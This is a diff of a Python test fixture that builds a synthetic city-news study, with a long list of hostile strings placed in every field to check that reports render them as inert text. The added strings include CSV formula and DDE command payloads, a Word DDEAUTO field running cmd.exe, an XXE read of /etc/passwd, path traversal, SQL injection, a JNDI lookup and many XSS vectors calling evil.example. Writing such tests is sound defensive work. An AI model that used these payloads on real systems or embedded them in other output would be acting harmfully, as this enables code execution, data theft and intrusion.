@@ -1,14 +1,20 @@
 """Texts that would do harm where an output took them for more than text, and a study full of them.
 
-``HOSTILE``: id -> (where it stands, the text). Another output is tested by adding it to the tests
-that take ``hostile_study`` (conftest): every text must come out as text, or not at all.
+``HOSTILE``: id -> (where it is worst, the text); every text stands in every place of the study:
+title, sentence, outlet, id, story, address, name of a city, label of a burst, word of a topic.
+Another output is tested by adding it to the tests that take ``hostile_study`` (conftest): every
+text must come out as text, or not at all.
 """
 
+import datetime
 from pathlib import Path
-from typing import Any
+
+import pyarrow as pa
+import pyarrow.parquet as pq
 
 from citysway.reports.names import Names
 from tests.reports.factory import Rows, add_document, write_study
+from tests.reports.schemas import FILES
 
 CITY = ("CN320500", "苏州", "Suzhou")
 #: A place of the user's own table: id and names are theirs.
@@ -96,9 +102,9 @@ HOSTILE: dict[str, tuple[str, str]] = {
     "formula_tab": (TITLE, "\t=1+1"),
     "formula_return": (TITLE, "\r=1+1"),
     "formula_outlet": (OUTLET, "=1+1"),
-    "formula_story": (STORY, "=1+1"),
+    "formula_story": (STORY, "=1+2"),
     "csv_break": (TITLE, '","","=1+1\n=2+2'),
-    "formula_id": (DOC_ID, "=1+1"),
+    "formula_id": (DOC_ID, "=1+3"),
     # paths and keys
     "path_doc": (DOC_ID, "../../../etc/passwd"),
     "path_windows": (DOC_ID, "..\\..\\windows\\system32"),
@@ -108,6 +114,76 @@ HOSTILE: dict[str, tuple[str, str]] = {
     "sql": (DOC_ID, "'; DROP TABLE documents; --"),
     "sql_outlet": (OUTLET, "x' OR '1'='1"),
     "glob": (DOC_ID, "*?[a-z]"),
+    # formats and what their readers change
+    "formula_cn": (TITLE, '=HYPERLINK("http://evil.example","点我")'),
+    "formula_dde": (TITLE, "+1+cmd|' /C calc'!A0"),
+    "formula_number": (TITLE, "-2+3"),
+    "formula_sum": (TITLE, "@SUM(1+1)"),
+    "formula_all_wide": (TITLE, "＝１＋１"),
+    "word_plus": (OUTLET, "＋加号"),
+    "word_minus": (OUTLET, "－减号"),
+    "word_at": (OUTLET, "＠某人"),
+    "formula_line": (TITLE, "\n=1+1"),
+    "formula_nul": (SENTENCE, "\x00=1+1"),
+    "formula_space": (TITLE, " =1+1"),
+    "controls": (SENTENCE, "a\x00b\x01c\x1fd\x7fe"),
+    "apostrophe_formula": (TITLE, "'=1+1"),
+    "apostrophes": (TITLE, "''@x"),
+    "apostrophe": (TITLE, "'"),
+    "na": (TITLE, "NA"),
+    "apostrophe_na": (TITLE, "'NA"),
+    "null": (TITLE, "NULL"),
+    "empty": (TITLE, ""),
+    "space": (TITLE, " "),
+    "number": (TITLE, "-12.5"),
+    "zeros": (DOC_ID, "0012"),
+    "power": (DOC_ID, "1e5"),
+    "lines": (TITLE, "第一行\n第二行\r\n第三行\r"),
+    "separators": (TITLE, 'quo"te, "comma", ;semicolon'),
+    "backslashes": (TITLE, "back\\slash \\N \\e | pipe \\|"),
+    "xml_escape": (TITLE, "_x0041_ _x005F_ _x000D_"),
+    "path_ini": (DOC_ID, "..\\..\\windows\\system.ini"),
+    "path_root": (DOC_ID, "/etc/shadow"),
+    "path_drive": (DOC_ID, "C:\\x.csv"),
+    "path_device": (DOC_ID, "NUL"),
+    "script_alert": (TITLE, "</script><script>alert(1)</script>"),
+    "jndi": (TITLE, "{{ 7*7 }} ${jndi:ldap://evil.example}"),
+    "bidi_word": (TITLE, "\u202e反转\u202c\u200b零宽\ufeff"),
+    "noncharacter_end": (TITLE, "\ufffe\uffff末尾"),
+    "astral": (TITLE, "😀👨\u200d👩\u200d👧 𠮷野家 𫞩"),
+    "equals": (TITLE, "="),
+    "quotes": (TITLE, "苏州市 Suzhou, ‘引号’"),
+    "sql_comment": (DOC_ID, "DROP TABLE documents; --"),
+    "sdmx": (DOC_ID, "$2E$ @ _Z _T *&"),
+    # a browser that runs one of these says so
+    "hit_script": (TITLE, "<script>window.__hit=1</script>"),
+    "hit_title": (TITLE, "</title><script>window.__hit=2</script>"),
+    "hit_style": (TITLE, "</style><script>window.__hit=3</script>"),
+    "hit_script_end": (SENTENCE, "</script><script>window.__hit=4</script>"),
+    "hit_comment": (SENTENCE, "--><script>window.__hit=5</script>"),
+    "hit_image": (SENTENCE, "<img src=x onerror=window.__hit=6>"),
+    "hit_svg": (TITLE, "<svg onload=window.__hit=7>"),
+    "hit_svg_close": (TITLE, "</text></svg><svg><script>window.__hit=8</script>"),
+    "hit_attribute": (OUTLET, '" autofocus tabindex=0 onfocus="window.__hit=9'),
+    "hit_details": (SENTENCE, "<details open ontoggle=window.__hit=10>"),
+    "hit_frame": (SENTENCE, '<iframe srcdoc="<script>parent.__hit=11</script>"></iframe>'),
+    "hit_animate": (TITLE, "<svg><animate onbegin=window.__hit=12 attributeName=x dur=1s>"),
+    "request_image": (TITLE, '<img src="https://evil.example/seen.png">'),
+    "request_style": (TITLE, '" style="background:url(https://evil.example/seen.png)'),
+    # Word: fields, and what its files are made of
+    "field_code": (TITLE, '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" }'),
+    "field_xml": (TITLE, '<w:fldSimple w:instr="DDEAUTO cmd"/>'),
+    "entity_xml": (TITLE, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
+    # addresses with signs that no address has
+    "url_bidi": (URL, "https://example.org/\u202egnp.exe"),
+    "url_escape": (URL, "https://example.org/\x1b[31m"),
+    "url_space": (URL, "https://example.org/a b%zz\\c{d}|e^f`g"),
+    "url_user": (URL, "https://example.org@evil.test/"),
+    # the search of a study
+    "fts_quote": (TITLE, '"unfinished AND'),
+    "fts_column": (TITLE, "title:苏州 OR body:*"),
+    "fts_near": (TITLE, "NEAR(苏州 街区, 5) ^x {a b}: -c"),
+    "fts_marks": (TITLE, "\ue000x\ue001\x1fy\x02\x03"),
     # size
     "long_line": (SENTENCE, "很" * 20_000),
     "long_title": (TITLE, "长" * 20_000),
@@ -117,8 +193,15 @@ HOSTILE: dict[str, tuple[str, str]] = {
 SURROGATES = ("\ud800", "a\udfffb", "\udc00\ud800")
 
 
+#: A city for every text: its names are the text.
+NAMED = {f"HX{number:04d}": text for number, (_, text) in enumerate(HOSTILE.values())}
+
+#: Cities whose pages the quick tests look at: full of hostile texts, a hostile id, a hostile name.
+REPORTED = [CITY[0], BAD_CITY[0], "HX0000"]
+
+
 def where(place: str) -> list[str]:
-    """The texts that stand in one place."""
+    """The texts that are worst in one place."""
     return [text for at, text in HOSTILE.values() if at == place]
 
 
@@ -126,6 +209,8 @@ def add_hostile(rows: Rows) -> None:
     """A document for every hostile text, and one on the city with a hostile id."""
     for number, (name, (place, text)) in enumerate(HOSTILE.items()):
         _add(rows, CITY, f"bad-{name}", number, place, text)
+        rows["doc_city"][-1].update(story_id=text, cities=2)
+        rows["doc_city"].append(rows["doc_city"][-1] | {"city_id": f"HX{number:04d}"})
     _add(rows, BAD_CITY, "bad-city", 0, TITLE, "a city by another name")
 
 
@@ -134,32 +219,75 @@ def _add(
 ) -> None:
     zh = number % 2 == 1
     term = "历史文化街区" if zh else "historic district"
-    said = text if place == SENTENCE else ""
-    sentence = ("{city}的" + term + said + "。") if zh else ("{city} has a " + term + " " + said)
-    held: dict[str, Any] = {"source": text if place == OUTLET else f"outlet-{name}"}
+    sentence = ("{city}的" + term + text + "。") if zh else ("{city} has a " + term + " " + text)
     add_document(
         rows,
         city=city,
-        doc_id=text if place == DOC_ID else name,
+        doc_id=text or name,
+        source=text or name,
         role="nat",
         zh=zh,
         sentences=[(sentence, term, "E03", 1 - number % 3)],
-        title=text if place == TITLE else f"title of {name}",
+        title=text,
         kind="news",
-        date=None,
+        date=datetime.date(2024, 1 + number % 12, 3),
         url=text if place == URL else f"https://example.org/{number}",
-        **held,
     )
-    if place == STORY:
-        rows["doc_city"][-1]["story_id"] = text
 
 
 def write_hostile(out: Path) -> Path:
     """A study with every hostile text in its tables."""
-    return write_study(out, more=add_hostile)
+    write_study(out, more=add_hostile)
+    _add_events(out)
+    _add_words(out)
+    _add_numbers(out)
+    return out
+
+
+def _add_events(out: Path) -> None:
+    """A burst of CITY named by the document of every text, the strongest first."""
+    rows = [
+        {"city_id": CITY[0], "kind": "burst", "month": f"2024-{1 + number % 12:02d}", "until": None,
+         "value": 300.0 - number, "expected": 1.0, "p": 0.001, "share": 0.5,
+         "doc_id": text or f"bad-{name}"}
+        for number, (name, (_, text)) in enumerate(HOSTILE.items())
+    ]  # fmt: skip
+    pq.write_table(pa.Table.from_pylist(rows, _BURSTS), out / "bursts.parquet")
+
+
+_BURSTS = pa.schema(
+    [(name, pa.string()) for name in ("city_id", "kind", "month", "until")]
+    + [(name, pa.float64()) for name in ("value", "expected", "p", "share")]
+    + [("doc_id", pa.string())]
+)
+
+
+def _add_words(out: Path) -> None:
+    """Every text is a word of a topic."""
+    path = out / FILES["topic_model"][0]
+    table = pq.read_table(path)
+    texts = [text for _, text in HOSTILE.values()]
+    rows = [
+        {"topic": at % 2, "rank": 5 + at // 2, "word": text, "weight": 0.01}
+        for at, text in enumerate(texts)
+    ]
+    pq.write_table(pa.concat_tables([table, pa.Table.from_pylist(rows, table.schema)]), path)
+
+
+def _add_numbers(out: Path) -> None:
+    """The city with a hostile id and those with hostile names have every number of CITY."""
+    path = out / FILES["indicators"][0]
+    table = pq.read_table(path)
+    rows = [row for row in table.to_pylist() if row["city_id"] == CITY[0]]
+    more = [row | {"city_id": city} for city in (BAD_CITY[0], *NAMED) for row in rows]
+    whole = [*table.to_pylist(), *more]
+    key = ("indicator", "part", "variant", "role", "lang", "period", "city_id")
+    whole.sort(key=lambda row: tuple(row[name] for name in key))
+    pq.write_table(pa.Table.from_pylist(whole, table.schema), path)
 
 
 def hostile_names(names: Names) -> Names:
-    """The names of the made-up study, and those of the hostile city."""
+    """The names of the made-up study, and those of the hostile cities."""
     cities = dict(names.cities) | {BAD_CITY[0]: BAD_CITY[1:]}
+    cities |= {city: (text, text) for city, text in NAMED.items()}
     return Names(cities=cities, codes=names.codes, categories=names.categories)
